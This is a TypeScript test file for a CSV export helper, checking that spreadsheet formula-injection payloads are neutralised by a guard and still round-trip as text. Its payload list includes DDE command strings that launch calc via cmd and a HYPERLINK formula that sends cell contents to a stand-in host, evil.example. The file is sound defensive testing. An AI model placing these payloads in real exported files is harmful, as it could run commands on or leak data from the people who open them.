import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { csvCell, csvLine, withoutGuard } from './csvText.ts'

const formulaStarts = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠']
const payloads = [
  ...formulaStarts.map((start) => `${start}1+1`),
  ...formulaStarts.map((start) => `${start}SUM(A1:A9)*cmd|' /C calc'!A0`),
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  '=1+1","=2+2',
  '=1+1\r\n=2+2',
  '@SUM(1)\n@SUM(2)',
  "'=1+1",
  "''=1+1",
  '-2+3+cmd|" /C calc"!A0',
  '\t=1+1',
  '"=1+1"',
  '=1;=2',
]

/** Whether a spreadsheet would run the cell as a formula. */
const startsFormula = (cell: string) => /^[=+\-@\t\r\0＝＋－＠]/.test(cell)
const parsed = (text: string) => Papa.parse<string[]>(text, { delimiter: ',' }).data

test('SEC15 of 32 payloads parsed back, none starts a formula, and none leaves its cell', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(30)
  const lines = payloads.map((text) => csvLine([csvCell(text, { isGuarded: true }), 'next']))
  const rows = parsed(lines.join('')).slice(0, -1)
  expect(rows).toHaveLength(payloads.length)
  expect(rows.filter(([cell = '']) => startsFormula(cell))).toEqual([])
  expect(rows.map(([, next]) => next)).toEqual(payloads.map(() => 'next'))
})

test('K4 every text comes back from a guarded and from a plain file, a quote before a formula too', () => {
  const all = [
    ...payloads,
    '',
    ' spaces ',
    'a,b',
    'a;b',
    '"',
    '""',
    'line\nline',
    "it's",
    '-5',
    '😀',
  ]
  const guarded = parsed(csvLine(all.map((text) => csvCell(text, { isGuarded: true }))))[0] ?? []
  expect(guarded.map(withoutGuard)).toEqual(all)
  const plain = parsed(csvLine(all.map((text) => csvCell(text, { isGuarded: false }))))[0]
  expect(plain).toEqual(all)
})

test('SEC15 a negative number stays a number; a text that looks like one does not', () => {
  expect(csvCell('-12.50', { isGuarded: true, isNumber: true })).toBe('-12.50')
  expect(csvCell('-12.50', { isGuarded: true })).toBe("'-12.50")
})
